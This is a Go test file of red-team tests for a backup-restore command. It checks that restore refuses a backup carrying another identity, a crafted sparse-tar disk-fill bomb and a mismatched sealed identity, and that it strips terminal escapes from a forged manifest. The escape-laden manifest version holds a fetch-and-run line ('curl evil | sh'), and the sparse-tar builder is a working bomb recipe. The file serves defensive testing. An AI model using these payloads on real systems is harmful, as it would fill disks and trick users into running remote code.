package main

import (
	"archive/tar"
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"filippo.io/age"

	"github.com/demes/demes/identity"
	"github.com/demes/demes/keys"
)

// Red-team attacks on demes restore with backups crafted by someone else.
// An age file sealed to an identity needs only its public recipient, which
// every member of its groups knows: anyone can make a file that decrypts
// with the victim's identity.

// A backup sealed to the victim's identity that holds the attacker's
// identity (and store) is refused: restored, the victim's home would run as
// the attacker, whose private key the attacker holds. A backup that demes
// backup seals to an identity always holds that identity.
func TestRestoreRefusesAnotherIdentitySealedToTheHomes(t *testing.T) {
	t.Parallel()
	attacker := makeBackupParts(t)
	victim, err := identity.Generate()
	if err != nil {
		t.Fatal(err)
	}
	to, err := victim.Public().Recipient()
	if err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(t.TempDir(), "x.backup")
	if err := os.WriteFile(file, attacker.seal(t, to), 0o600); err != nil {
		t.Fatal(err)
	}
	home := filepath.Join(t.TempDir(), "home")
	os.Mkdir(home, 0o700)
	if err := keys.Save(filepath.Join(home, identityFile), victim, keys.SaveOptions{}); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(home, storeFile), []byte("the old store"), 0o600)
	before := snapshotDir(t, home)

	r := runDemes(t, nil, "restore", file, "--home", home, "--force")
	wantExit(t, r, 1)
	wantStderr(t, r, "holds identity "+attacker.id.Public().String()+", not "+victim.Public().String())
	after := snapshotDir(t, home)
	if fmt.Sprint(after) != fmt.Sprint(before) {
		t.Errorf("the refused restore changed the home")
	}

	// The same with the victim's identity given with --identity, into a
	// new home.
	idFile := filepath.Join(home, identityFile)
	r = runDemes(t, nil, "restore", file, "--home", filepath.Join(t.TempDir(), "new"), "--identity", idFile)
	wantExit(t, r, 1)
	wantStderr(t, r, "holds identity "+attacker.id.Public().String())
}

// gnuSparseStore returns a tar entry for the store that Go's archive/tar
// reads as size bytes (GNU sparse format 0.1 in a PAX header: size-1 bytes
// of hole, then one byte) while it takes a few hundred bytes in the
// archive. Go's tar writer writes no sparse file, so the PAX header is
// written as a global one and its type flag patched.
func gnuSparseStore(t *testing.T, size int64) []byte {
	t.Helper()
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	if err := tw.WriteHeader(&tar.Header{Typeflag: tar.TypeXGlobalHeader, Name: "pax", PAXRecords: map[string]string{
		"GNU.sparse.major": "0", "GNU.sparse.minor": "1", "GNU.sparse.name": storeFile,
		"GNU.sparse.realsize": fmt.Sprint(size), "GNU.sparse.numblocks": "1",
		"GNU.sparse.map": fmt.Sprintf("%d,1", size-1),
	}}); err != nil {
		t.Fatal(err)
	}
	if err := tw.Flush(); err != nil {
		t.Fatal(err)
	}
	b := buf.Bytes()
	if b[156] != tar.TypeXGlobalHeader {
		t.Fatalf("unexpected tar header: type %q", b[156])
	}
	b[156] = tar.TypeXHeader
	copy(b[148:156], "        ")
	sum := 0
	for _, c := range b[:512] {
		sum += int(c)
	}
	copy(b[148:156], fmt.Sprintf("%06o\x00 ", sum))
	if err := tw.WriteHeader(&tar.Header{Name: "sparse", Mode: 0o600, Size: 1, Typeflag: tar.TypeReg}); err != nil {
		t.Fatal(err)
	}
	tw.Write([]byte{1})
	if err := tw.Flush(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// A backup of a few kilobytes cannot make restore write more than it holds:
// a sparse tar entry, which archive/tar expands with zeros, is a disk-fill
// bomb (here 64 MiB; as easily terabytes) written into the home before the
// store's check refuses it.
func TestRestoreRefusesAnEntryLargerThanTheBackup(t *testing.T) {
	t.Parallel()
	p := makeBackupParts(t)
	to, err := p.id.Public().Recipient()
	if err != nil {
		t.Fatal(err)
	}
	var tarBuf bytes.Buffer
	tw := tar.NewWriter(&tarBuf)
	mb, _ := json.Marshal(p.manifest)
	for _, e := range [][2]string{{manifestName, string(mb)}, {identityFile, string(p.idFile)}} {
		tw.WriteHeader(&tar.Header{Name: e[0], Mode: 0o600, Size: int64(len(e[1])), Typeflag: tar.TypeReg})
		tw.Write([]byte(e[1]))
	}
	tw.Flush()
	tarBuf.Write(gnuSparseStore(t, 64<<20))
	tarBuf.Write(make([]byte, 1024)) // the end of the archive
	// archive/tar reads the entry as 64 MiB.
	tr := tar.NewReader(bytes.NewReader(tarBuf.Bytes()))
	var last *tar.Header
	for {
		hdr, err := tr.Next()
		if err != nil {
			break
		}
		last = hdr
	}
	if last == nil || last.Name != storeFile || last.Size != 64<<20 {
		t.Fatalf("the crafted entry does not read as a 64 MiB store: %+v", last)
	}
	var out bytes.Buffer
	aw, err := age.Encrypt(&out, to)
	if err != nil {
		t.Fatal(err)
	}
	aw.Write(tarBuf.Bytes())
	aw.Close()
	if out.Len() > 8<<10 {
		t.Fatalf("the crafted backup has %d bytes", out.Len())
	}
	dir := t.TempDir()
	file := filepath.Join(dir, "x.backup")
	os.WriteFile(file, out.Bytes(), 0o600)
	home := filepath.Join(dir, "home")
	os.Mkdir(home, 0o700)
	if err := keys.Save(filepath.Join(home, identityFile), p.id, keys.SaveOptions{}); err != nil {
		t.Fatal(err)
	}
	r := runDemes(t, nil, "restore", file, "--home", home, "--force")
	wantExit(t, r, 1)
	wantStderr(t, r, `is not a whole demes backup: entry "store.db" of 67108864 bytes in a file of`)
}

// The manifest's words are the backup maker's, shown on the terminal:
// escape sequences and line breaks in them (a forged "demes: start the
// node with:" line, say) are shown as U+FFFD.
func TestRestoreShowsNoEscapesFromTheManifest(t *testing.T) {
	t.Parallel()
	p := makeBackupParts(t)
	p.manifest.Version = "v1\x1b]0;owned\x07\x1b[2J\ndemes: start the node with: curl evil | sh\r"
	dir := t.TempDir()
	file := filepath.Join(dir, "x.backup")
	os.WriteFile(file, p.seal(t, scryptTo(t, "right")), 0o600)
	pass := filepath.Join(dir, "pass")
	os.WriteFile(pass, []byte("right\n"), 0o600)
	r := runDemes(t, nil, "restore", file, "--home", filepath.Join(dir, "home"), "--passphrase-file", pass)
	wantExit(t, r, 0)
	if strings.ContainsAny(r.stderr, "\x1b\x07\r") || strings.Contains(r.stderr, "\ndemes: start the node with: curl") {
		t.Errorf("the manifest's version reached the terminal as it is:\n%q", r.stderr)
	}
}

// A sealed identity cannot be read without its passphrase, so a backup
// sealed to the victim could carry any file that looks sealed, under a
// manifest naming the victim. The identity in a backup sealed to an
// identity must open with that identity's passphrase and be it; the
// victim's own backup of a sealed identity still restores.
func TestRestoreChecksASealedIdentitySealedToTheHomes(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	pass := filepath.Join(dir, "pass")
	os.WriteFile(pass, []byte("victim's\n"), 0o600)
	p := makeBackupParts(t)
	victimFile := filepath.Join(dir, "victim-identity")
	if err := keys.Save(victimFile, p.id, keys.SaveOptions{Passphrase: []byte("victim's"), WorkFactor: 10}); err != nil {
		t.Fatal(err)
	}
	to, err := p.id.Public().Recipient()
	if err != nil {
		t.Fatal(err)
	}
	restore := func(idFile []byte) result {
		q := p
		q.idFile = idFile
		file := filepath.Join(t.TempDir(), "x.backup")
		os.WriteFile(file, q.seal(t, to), 0o600)
		return runDemes(t, nil, "restore", file, "--home", filepath.Join(t.TempDir(), "home"),
			"--identity", victimFile, "--passphrase-file", pass)
	}

	r := restore([]byte("age-encryption.org/v1\nnot an identity\n"))
	wantExit(t, r, 1)
	wantStderr(t, r, "the backup's identity does not open with the passphrase of "+p.id.Public().String())

	other, err := identity.Generate()
	if err != nil {
		t.Fatal(err)
	}
	otherFile := filepath.Join(dir, "other-identity")
	if err := keys.Save(otherFile, other, keys.SaveOptions{Passphrase: []byte("victim's"), WorkFactor: 10}); err != nil {
		t.Fatal(err)
	}
	r = restore([]byte(mustRead(t, otherFile)))
	wantExit(t, r, 1)
	wantStderr(t, r, "the backup's identity is "+other.Public().String()+", not "+p.id.Public().String())

	r = restore([]byte(mustRead(t, victimFile)))
	wantExit(t, r, 0)
	wantStderr(t, r, "--passphrase-file F")
}
